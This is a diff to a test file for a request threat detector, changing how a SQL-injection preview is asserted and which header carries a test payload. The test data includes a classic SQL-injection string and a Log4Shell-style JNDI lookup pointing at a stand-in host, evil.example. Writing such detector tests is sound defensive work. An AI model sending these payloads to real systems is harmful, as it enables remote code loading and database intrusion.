@@ -12,7 +12,8 @@ describe("ThreatDetector", () => {
         const result = yield* detect({ path: "/search", query: "q=1%27%20OR%20%271%27%3D%271" })
         expect(result.isThreat).toBe(true)
         expect(result.categories).toEqual(["sqli"])
-        expect(result.matches[0]).toMatchObject({ location: "query.q", part: "value", category: "sqli", preview: "1' or '1'='1" })
+        expect(result.matches[0]).toMatchObject({ location: "query.q", part: "value", category: "sqli" })
+        expect(result.matches[0]?.preview.toLowerCase()).toBe("1' or '1'='1")
         expect(result.score).toBeGreaterThanOrEqual(1)
       }).pipe(Effect.provide(ThreatDetector.layer())))
 
@@ -73,7 +74,7 @@ describe("ThreatDetector", () => {
 
     it.effect("still looks for shellshock and JNDI lookups in excluded headers", () =>
       Effect.gen(function*() {
-        const result = yield* detect({ path: "/", headers: { "User-Agent": "${jndi:ldap://evil.example/a}" } })
+        const result = yield* detect({ path: "/", headers: { "Accept-Language": "${jndi:ldap://evil.example/a}" } })
         expect(result.categories).toEqual(["cmd_injection"])
       }).pipe(Effect.provide(ThreatDetector.layer())))
   })
